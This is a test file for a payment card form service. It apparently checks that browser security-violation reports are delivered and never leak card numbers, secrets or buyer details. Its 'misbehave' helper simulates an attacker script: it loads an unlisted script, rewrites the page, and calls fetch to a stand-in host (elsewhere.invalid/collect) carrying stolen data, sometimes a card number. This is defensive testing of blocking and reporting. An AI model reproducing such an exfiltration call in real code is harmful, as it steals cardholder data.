/**
 * Violation reports that a real Chromium sends about the form's document, hosted by nginx and Caddy: over https through
 * its Reporting API, over plain http by the policy's `report-uri` alone. Every report is checked for what it must not
 * contain.
 */
import { createServer } from 'node:https';
import type { Browser, Frame } from 'playwright/test';
import { WHOLE_CHROMIUM } from '../browsers/launch-chromium.ts';
import { violations } from '../support/axe.ts';
import { BUYER, CARD, checkoutPage } from '../support/checkout-page.ts';
import { expect } from '../support/fixtures.ts';
import { formFrame } from '../support/form-frame.ts';
import { listening } from '../support/listening.ts';
import { createCertificate } from './certificate.ts';
import { test as base } from './hosted.ts';
import { DIST, needs, readManifest, WEB_SERVERS } from './hosting.ts';
import { releaseUnseen } from './program.ts';

/** An address on a different origin from the service's, and the data it received. */
type Collector = { url: string; bodies: string[]; methods: string[] };

const test = base.extend<{ collector: Collector }>({
  // Otherwise browsers collect reports for a minute and send them without the context's exceptions.
  launchOptions: [
    // biome-ignore lint/correctness/noEmptyPattern: from the pattern Playwright reads what a fixture needs.
    async ({}, use) => {
      await use({
        ...WHOLE_CHROMIUM,
        args: [...(WHOLE_CHROMIUM.args ?? []), '--short-reporting-delay', '--ignore-certificate-errors'],
      });
    },
    { scope: 'worker' },
  ],
  // biome-ignore lint/correctness/noEmptyPattern: from the pattern Playwright reads what a fixture needs.
  collector: async ({}, use) => {
    const { key, certificate: cert } = createCertificate();
    const bodies: string[] = [];
    const methods: string[] = [];
    const server = createServer({ key, cert }, (request, response) => {
      let body = '';
      request.on('data', (text) => {
        body += text;
      });
      request.on('end', () => {
        methods.push(`${request.method} ${request.url}`);
        if (request.method === 'POST') bodies.push(body);
        const headers = {
          'access-control-allow-origin': '*',
          'access-control-allow-headers': 'content-type',
        };
        response.writeHead(204, headers).end();
      });
    });
    const { url, stop } = await listening(server, '127.0.0.1');
    await use({ url: `${url.replace('http:', 'https:')}/card-form`, bodies, methods });
    await stop();
  },
});

/** Opens a checkout in a separate context: the fixtures fail a test for any violation. */
const openCheckout = async (browser: Browser, address: string) => {
  const context = await browser.newContext({
    ignoreHTTPSErrors: true,
    viewport: { width: 900, height: 1400 },
  });
  const page = await context.newPage();
  await page.goto(`${address}?order=secret-order`);
  const checkout = checkoutPage(page);
  await checkout.ready();
  return { page, checkout };
};

/** Possible actions of an attacker's script in the frame. The browser refuses and reports each of them. */
const misbehave = async (frame: Frame, script: string, stolen = 'stolen') => {
  await frame.evaluate(`import('${script}').catch(() => undefined)`);
  await frame.evaluate(async (what) => {
    await fetch(`https://elsewhere.invalid/collect?what=${what}`).catch(() => undefined);
    try {
      document.body.innerHTML = '<p>replaced</p>';
    } catch {
      // Trusted Types
    }
  }, stolen);
};

type Report = { type: string; url: string; body: Record<string, unknown> };

const reportsIn = (bodies: readonly string[]): Report[] =>
  bodies.flatMap((body) => {
    const reports: Report[] = JSON.parse(body);
    return reports;
  });

for (const server of WEB_SERVERS)
  test.describe(`violation reports over https from ${server.name}`, () => {
    test.skip(server.program === null, needs(server));
    test.use({ server, sandboxOptions: { reports: true } });

    test('are sent once the owner gave an address, and contain no card, no secret and no buyer', async ({
      browser,
      checkoutAt,
      collector,
      hosting,
      service,
    }) => {
      await releaseUnseen(hosting, ['publish', '--from', DIST, '--reports-to', collector.url]);
      const { release } = await readManifest();
      const { page, checkout } = await openCheckout(browser, await checkoutAt());
      await checkout.fillCard(CARD.visa);
      // In the release's own folder, so that the policy allows it, but without a hash.
      await misbehave(formFrame(page), `/partner/v1/card-form/${release}/assets/unlisted.js`);
      await checkout.pay();
      expect(await checkout.hears('result')).toMatchObject({ outcome: 'succeeded' });
      await expect
        .poll(() => [...new Set(reportsIn(collector.bodies).map(({ type }) => type))].sort(), {
          timeout: 30_000,
        })
        .toEqual(['csp-violation', 'integrity-violation']);
      // A document whose process crashes.
      const session = await page.context().newCDPSession(formFrame(page));
      void session.send('Page.crash').catch(() => undefined);
      await expect
        .poll(() => reportsIn(collector.bodies).some(({ type }) => type === 'crash'), { timeout: 30_000 })
        .toBe(true);
      expect(collector.methods[0]).toBe('OPTIONS /card-form'); // the browser sends a preflight to another origin

      const frame = `${hosting.url}/partner/v1/card-form/${release}/frame.html`;
      const shop = `${hosting.shop}/`;
      for (const { url, body } of reportsIn(collector.bodies)) {
        expect(url).toBe(frame); // no query, no fragment
        if ('referrer' in body) expect(body.referrer).toBe(shop); // the shop's origin, never its page
      }
      const all = collector.bodies.join('\n');
      for (const [what, text] of Object.entries({
        ...BUYER,
        key: service.keys.publishable,
        order: 'secret-order',
      }))
        if (!['state', 'code'].includes(what)) expect([what, all.includes(text)]).toEqual([what, false]);
      expect(all).not.toMatch(/lg_cs_|lg_pi_|4242|123[^\d]{0,2}12.?34/);
      // Trusted Types quotes what a script was about to insert, whatever the policy says: docs/hosting.md mentions it.
      const samples = reportsIn(collector.bodies).map(({ body }) => body.sample || '');
      expect([...new Set(samples)].sort()).toEqual(['', 'Element innerHTML|<p>replaced</p>']);
      await page.context().close();
    });

    test('reach the sandbox behind the server at a path, and end with `off`', async ({
      browser,
      checkoutAt,
      hosting,
      service,
    }) => {
      const kept = async (): Promise<{ type: string }[]> =>
        (await (await fetch(`${service.url}/_sandbox/reports`)).json()).data;
      await releaseUnseen(hosting, ['publish', '--from', DIST, '--reports-to', '/reports']);
      const { page } = await openCheckout(browser, await checkoutAt());
      await misbehave(formFrame(page), '/partner/v1/card-form/unlisted.js');
      await expect.poll(async () => (await kept()).length, { timeout: 30_000 }).toBeGreaterThan(2);
      expect((await kept()).map(({ type }) => type)).toContain('csp-violation');
      await page.context().close();

      await releaseUnseen(hosting, ['publish', '--from', DIST, '--reports-to', 'off']);
      const silent = await openCheckout(browser, await checkoutAt());
      const response = silent.page.waitForResponse(/frame\.html$/);
      await silent.page.reload();
      expect(JSON.stringify(await (await response).allHeaders())).not.toContain('report');
      await silent.page.context().close();
    });
  });

test.describe('violation reports over plain http', () => {
  test.use({ sandboxOptions: { reports: true } });

  test('reach the inspector, which drops one with a card number and says so', async ({
    browser,
    serve,
    service,
  }) => {
    const { page } = await openCheckout(browser, serve(await service.createIntent()));
    const inspector = await page.context().newPage();
    await inspector.goto(`${service.url}/_sandbox/#/reports`);
    await expect(inspector.getByText('No reports yet.')).toBeVisible();
    await misbehave(formFrame(page), '/partner/v1/card-form/unlisted.js', CARD.visa);
    const rows = inspector.getByRole('row');
    await expect(rows.filter({ hasText: 'require-trusted-types-for' })).toBeVisible({ timeout: 30_000 });
    const dropped = rows.filter({ hasText: 'it seems to contain a card number' });
    await expect(dropped).toBeVisible();
    await expect(inspector.locator('body')).not.toContainText(CARD.visa);
    expect(await violations(inspector.mainFrame(), 'white')).toEqual([]);
    await page.context().close();
  });
});

test('without the option the inspector says how to turn reports on', async ({ page, service }) => {
  await page.goto(`${service.url}/_sandbox/#/reports`);
  await expect(page.getByText('Start the sandbox with --reports')).toBeVisible();
});
